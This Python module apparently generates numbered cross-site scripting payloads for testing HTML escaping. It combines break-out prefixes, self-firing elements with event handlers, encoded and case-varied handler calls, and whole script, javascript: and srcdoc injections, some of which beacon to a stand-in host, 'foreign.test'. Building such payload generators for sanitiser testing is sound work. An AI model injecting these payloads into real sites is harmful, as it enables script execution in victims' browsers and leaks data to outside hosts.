"""Script injections made from a grammar: what is broken out of, an element, how it is written, what it would run.

Each has a number, and its script names it: `a(7)`, a dialog, or a request to a foreign host. Any number of them may
stand in one text: all are closed, so that every single one runs where the text is written raw (`test_payloads`).
"""

from itertools import count, product
from random import Random

HOST = "foreign.test"
# fmt: off
OUT_OF = ("", '">', "'>", '"/>', "</title>", "</textarea>", "</style>", "-->", "]]>", "{{", "${", "\\")
RUNS = (  # elements that run a handler without being touched: their beginning, the handler, their end
    ("img src=x",                       "onerror",  ""),
    ("img src",                         "onerror",  ""),
    ("image src=x",                     "onerror",  ""),
    ("svg",                             "onload",   "</svg>"),
    ("svg><animate attributeName=x dur=1s", "onbegin", "</svg>"),
    ("iframe",                          "onload",   "</iframe>"),
    ("details open",                    "ontoggle", "</details>"),
    ("video src=x",                     "onerror",  "</video>"),
    ("audio src=x",                     "onerror",  "</audio>"),
    ("video><source src=x",             "onerror",  "</video>"),
    ("object data=x",                   "onerror",  "</object>"),
    ("style",                           "onload",   "</style>"),
    ("link rel=stylesheet href=x",      "onerror",  ""),
    ("script src=x",                    "onerror",  "</script>"),
)
HANDLERS = (
    "a({})", "window.a({})", "top['a']({})", "a`{}`", "[{}].find(a)", "\\u0061({})", "&#97;({})",
    "&#x61;&lpar;{}&rpar;", "&#0000097({})", "setTimeout(a,0,{})", "alert({})", "new Image().src='//" + HOST + "/{}'",
)
QUOTES = ("{}", '"{}"', "'{}'", ' "{}"')
BETWEEN = (" ", "/", "\n", "\t", "\f", " x=1 ")
CASES = (str.lower, str.upper, str.title)
WHOLE = (  # and those that need no handler
    "<script>a({})</script>",
    "<script>a({})//</script>",
    "<svg><script>a({})</script></svg>",
    "<iframe srcdoc='<script>parent.a({})</script>'></iframe>",
    '<iframe srcdoc="&lt;script&gt;parent.a({})&lt;/script&gt;"></iframe>',
    "<iframe src=javascript:parent.a({})></iframe>",
    '<iframe src="java&Tab;script:parent.a({})"></iframe>',
    "<img src=//" + HOST + "/{}>",
    "<link rel=stylesheet href=//" + HOST + "/{}>",
    "<style>@import'//" + HOST + "/{}'</style>",
    "<div style=background:url(//" + HOST + "/{})>x</div>",
    "<video poster=//" + HOST + "/{}></video>",
    "<iframe src=//" + HOST + "/{}></iframe>",
    "<input type=image src=//" + HOST + "/{}>",
    "<svg><image href=//" + HOST + "/{} /></svg>",
)
# fmt: on


def payloads(wanted: int, seed: int = 11) -> list[str]:
    """This many different payloads, numbered from 1; every element is among the first sixty."""
    chance, made = Random(seed), dict[str, None]()
    for index in count():
        if len(made) == wanted:
            break
        made.setdefault(
            chance.choice(OUT_OF) + WHOLE[index // 4 % len(WHOLE)] if index % 4 == 3 else _element(index, chance)
        )
    return [shape.replace("{}", str(number)) for number, shape in enumerate(made, start=1)]


def _element(index: int, chance: Random) -> str:
    """An element and its handler, each word in turn, the rest at random."""
    begins, handler, ends = RUNS[index % len(RUNS)]
    script, quote = chance.choice([pair for pair in product(HANDLERS, QUOTES) if _fits(*pair)])
    tag, _, rest = begins.rpartition("<")[2].partition(" ")
    before = begins[: begins.rindex("<") + 1] if "<" in begins else ""
    case = chance.choice(CASES)
    between = chance.choice([sign for sign in BETWEEN if sign != "/" or "=" not in rest])  # else it is part of a value
    written = f"<{before}{case(tag)}{' ' * bool(rest)}{rest}{between}{case(handler)}="
    return f"{chance.choice(OUT_OF)}{written}{quote.replace('{}', script)}>{ends}"


def _fits(script: str, quote: str) -> bool:
    return quote.strip()[0] not in script and (quote != "{}" or not set(" \"'`=<>") & set(script))
